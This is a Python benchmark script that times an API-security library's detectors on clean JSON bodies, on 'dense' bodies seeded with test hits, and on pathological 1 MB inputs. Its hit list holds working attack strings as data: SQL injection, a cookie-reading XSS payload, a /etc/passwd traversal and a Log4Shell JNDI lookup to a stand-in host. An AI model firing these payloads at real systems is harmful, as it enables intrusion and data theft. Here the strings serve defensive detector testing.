"""Body-scanning throughput of all detectors together, in MB/s on one core.

    .venv/bin/python bench/throughput.py            # full run, a few minutes
    .venv/bin/python bench/throughput.py --quick    # smaller, for a smoke check

Bodies are realistic JSON API payloads from bench/benign.py: "clean" has no PII, secret or
attack; "dense" has about one planted hit per KB (emails, cards, phones, IBANs, cloud keys,
attack strings). Each body goes through the real Analyzer as a request body (every field
detector, injection included) and as a response body (PII, secrets, exposure, posture).
Figures are medians over repeats, measured side by side in one run. A last table times
1 MB pathological inputs, which must each finish in under 50 ms.
"""

from __future__ import annotations

import argparse
import random
import statistics
import sys
import time

import orjson
from benign import benign_json_body

from otel_apisec.detect import Analyzer, DetectConfig
from otel_apisec.detect.engine import BACKEND
from otel_apisec.model import Body, Headers, HttpExchange

HITS = [
    "jane.doe@example.org",
    "4111 1111 1111 1111",
    "+44 20 7946 0958",
    "GB82 WEST 1234 5698 7654 32",
    "AKIAIOSFODNN7EXAMPLE",
    "123-45-6780",
    "1' OR '1'='1' --",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "${jndi:ldap://x.example/a}",
]


def dense_body(size: int, seed: int) -> bytes:
    """A clean body with about one hit per KB planted into its string values."""
    rng = random.Random(seed)
    doc = orjson.loads(benign_json_body(size, seed))
    strings: list[tuple[object, object]] = []
    stack = [doc]
    while stack:
        node = stack.pop()
        items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
        for key, value in items:
            if isinstance(value, str):
                strings.append((node, key))
            elif isinstance(value, (dict, list)):
                stack.append(value)
    wanted = max(1, size // 1024)
    for node, key in rng.sample(strings, min(wanted, len(strings))):
        node[key] = f"{node[key][:20]} {rng.choice(HITS)}"
    return orjson.dumps(doc)


def exchange(body: bytes, direction: str) -> HttpExchange:
    payload = Body(body, "application/json")
    if direction == "request":
        return HttpExchange(method="POST", scheme="https", host="api.example.com", path="/v1/orders",
                            request_headers=Headers({"Content-Type": "application/json"}), request_body=payload,
                            status=201)
    return HttpExchange(method="GET", scheme="https", host="api.example.com", path="/v1/orders",
                        status=200, response_headers=Headers({"Content-Type": "application/json"}),
                        response_body=payload)


def measure(analyzer: Analyzer, item: HttpExchange, size: int, budget_s: float) -> tuple[float, int]:
    """Median MB/s over repeats of at least ~20 ms each, and the finding count."""
    findings = len(analyzer.analyze(item).findings)  # warm caches
    rates = []
    deadline = time.perf_counter() + budget_s
    while len(rates) < 5 or (time.perf_counter() < deadline and len(rates) < 50):
        loops, start = 0, time.perf_counter()
        while True:
            analyzer.analyze(item)
            loops += 1
            elapsed = time.perf_counter() - start
            if elapsed > 0.02:
                break
        rates.append(size * loops / elapsed / 1e6)
    return statistics.median(rates), findings


def pathological() -> list[tuple[str, bytes, str]]:
    mb = 1_000_000
    return [
        ("quotes", b"'" * mb, "text/plain"),
        ("percent signs", b"%" * mb, "text/plain"),
        ("nested %25 encodings", b"%25" * (mb // 3), "text/plain"),
        ("angle brackets", b"<" * mb, "text/plain"),
        ("${ lookups", b"${" * (mb // 2), "text/plain"),
        ("dots and slashes", b"../" * (mb // 3), "text/plain"),
        ("digits", b"4" * mb, "text/plain"),
        ("email-like", b"a@" * (mb // 2), "text/plain"),
        ("html entities", b"&#" * (mb // 2), "text/plain"),
        ("one JSON string", orjson.dumps({"q": "' OR " * (mb // 5)}), "application/json"),
        ("deep JSON", b"[" * 1000 + b"]" * 1000, "application/json"),
        ("many keys", orjson.dumps({f"k{i}": "x" for i in range(60_000)}), "application/json"),
    ]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--quick", action="store_true", help="fewer sizes and shorter repeats")
    parser.add_argument("--disable", default="", metavar="NAME[,...]",
                        help="detector families to leave out (e.g. exposure), to see what each costs")
    args = parser.parse_args()
    sizes = [4_096, 65_536] if args.quick else [4_096, 65_536, 1_048_576]
    budget = 0.3 if args.quick else 2.0
    everything = {"injection", "pii", "secrets", "tokens", "auth", "posture", "exposure"}
    enabled = frozenset(everything - set(filter(None, args.disable.split(","))))
    analyzer = Analyzer(DetectConfig(hmac_key=b"bench", max_body_bytes=2 << 20, max_fields=1_000_000, enabled=enabled))
    print(f"detectors: {', '.join(sorted(enabled))}")
    print(f"prefilter backend: {BACKEND}; one thread; median MB/s over repeats")
    print(f"{'body':>8} {'direction':>9} | {'clean MB/s':>10} {'dense MB/s':>10} {'dense hits':>10}")
    for size in sizes:
        clean, dense = benign_json_body(size, seed=size), dense_body(size, seed=size)
        for direction in ("request", "response"):
            clean_rate, clean_hits = measure(analyzer, exchange(clean, direction), len(clean), budget)
            dense_rate, dense_hits = measure(analyzer, exchange(dense, direction), len(dense), budget)
            note = "" if clean_hits == 0 else f"  (clean body had {clean_hits} findings)"
            print(f"{size // 1024:>6}KB {direction:>9} | {clean_rate:>10.1f} {dense_rate:>10.1f} {dense_hits:>10}{note}")
    print("\nper-exchange cost of a typical API call (2 KB JSON request and response, browser-like headers):")
    typical = HttpExchange(
        method="POST", scheme="https", host="api.example.com", path="/v1/orders",
        request_headers=Headers({"Content-Type": "application/json", "Accept": "*/*",
                                 "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
                                 "Host": "api.example.com"}),
        request_body=Body(benign_json_body(2048, seed=1), "application/json"), status=200,
        response_headers=Headers({"Content-Type": "application/json", "Server": "nginx"}),
        response_body=Body(benign_json_body(2048, seed=2), "application/json"),
    )
    rate, _ = measure(analyzer, typical, 1, budget)
    print(f"  {1 / rate:.0f} us per exchange")  # rate is exchanges per microsecond here
    print("\n1 MB pathological inputs, all detectors, median ms (target: under 50 ms):")
    print(f"  {'input':<22} {'as request':>10} {'as response':>11}")
    worst = 0.0
    for name, data, media in pathological():
        as_request = HttpExchange(method="POST", request_body=Body(data, media), status=400)
        as_response = HttpExchange(method="GET", status=500, response_body=Body(data, media))
        row = []
        for item in (as_request, as_response):
            times = []
            for _ in range(3):
                start = time.perf_counter()
                analyzer.analyze(item)
                times.append((time.perf_counter() - start) * 1000)
            row.append(statistics.median(times))
        worst = max(worst, *row)
        print(f"  {name:<22} {row[0]:10.1f} {row[1]:11.1f}")
    print(f"worst: {worst:.1f} ms")
    return 0


if __name__ == "__main__":
    sys.exit(main())
